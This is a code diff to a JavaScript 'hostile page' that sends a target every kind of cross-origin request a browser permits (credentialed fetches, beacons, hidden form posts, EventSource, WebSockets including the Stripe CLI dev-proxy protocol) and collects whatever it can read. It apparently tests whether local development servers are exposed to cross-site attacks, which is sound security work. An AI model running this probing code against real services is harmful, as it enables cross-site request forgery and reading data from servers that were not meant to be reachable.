@@ -1,7 +1,7 @@
 // A hostile page: sends a server everything that a page can send to another origin, and returns what it could read.
 "use strict";
 
-const GIVE_UP_AFTER = 2000; // ms; a download never loads
+const GIVE_UP_AFTER = 5000; // ms; a download never loads, and a web socket is delayed after others have failed
 
 const readable = async (answer) => (answer.ok ? (await answer.text()) || "an empty body" : "");
 
@@ -26,9 +26,9 @@ const framed = (frame, go) =>
     go();
   }).finally(() => frame.remove());
 
-const newForm = (address, fields, type) => {
+const newForm = (address, fields) => {
   const form = document.createElement("form");
-  Object.assign(form, { method: "POST", action: address, enctype: type });
+  Object.assign(form, { method: "POST", action: address });
   for (const [name, value] of Object.entries(fields)) {
     const input = document.createElement("input");
     Object.assign(input, { type: "hidden", name, value });
@@ -38,10 +38,10 @@ const newForm = (address, fields, type) => {
   return form;
 };
 
-const posted = (address, fields, type) => {
+const posted = (address, fields) => {
   const frame = document.createElement("iframe");
   frame.name = `frame-${Math.random()}`;
-  const form = newForm(address, fields, type);
+  const form = newForm(address, fields);
   form.target = frame.name;
   return framed(frame, () => form.submit()).finally(() => form.remove());
 };
@@ -68,8 +68,6 @@ const waysTo = (address, fields) => {
       return framed(frame, () => { frame.src = address; });
     },
     "event source": () => connected(new EventSource(address)),
-    "web socket": () => connected(new WebSocket(address.replace("http", "ws"))),
-    "web socket of the Stripe CLI": () => connected(new WebSocket(address.replace("http", "ws"), "stripecli-devproxy-v1")),
   };
   for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
     ways[`${method} json`] = () => fetch(address, { method, headers: json, body: JSON.stringify(fields) }).then(readable);
@@ -80,24 +78,33 @@ const waysTo = (address, fields) => {
       fetch(address, { method: "POST", mode: "no-cors", credentials: "include", body }).then(readable);
     ways[`beacon ${type}`] = async () => { navigator.sendBeacon(address, body); return ""; };
   }
-  for (const type of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
-    ways[`form ${type}`] = () => posted(address, fields, type);
-  }
+  ways.form = () => posted(address, fields);
   return ways;
 };
 
-const attack = async (target, paths, fields) => {
+// Each protocol of web sockets, opened once: "" is none.
+const socketsTo = (address, protocols) =>
+  Object.fromEntries(
+    protocols.map((protocol) => [
+      `web socket ${protocol}`.trim(),
+      () => connected(new WebSocket(address.replace("http", "ws"), protocol ? [protocol] : [])),
+    ]),
+  );
+
+const attack = async (target, paths, socketPath, fields) => {
   const read = [];
-  for (const path of paths) {
-    await Promise.all(
-      Object.entries(waysTo(target + path, fields)).map(async ([way, send]) => {
+  const tryAll = (path, ways) =>
+    Promise.all(
+      Object.entries(ways).map(async ([way, send]) => {
         const late = new Promise((done) => setTimeout(() => done(""), GIVE_UP_AFTER));
         const found = await Promise.race([send(), late]).catch(() => "");
         if (found) read.push([way, path, found.slice(0, 200)]);
       }),
     );
-  }
+  const sockets = tryAll(socketPath, socketsTo(target + socketPath, ["", "stripecli-devproxy-v1"]));
+  for (const path of paths) await tryAll(path, waysTo(target + path, fields));
+  await sockets;
   return read;
 };
 
-const submitForm = (address, fields) => newForm(address, fields, "application/x-www-form-urlencoded").submit();
+const submitForm = (address, fields) => newForm(address, fields).submit();
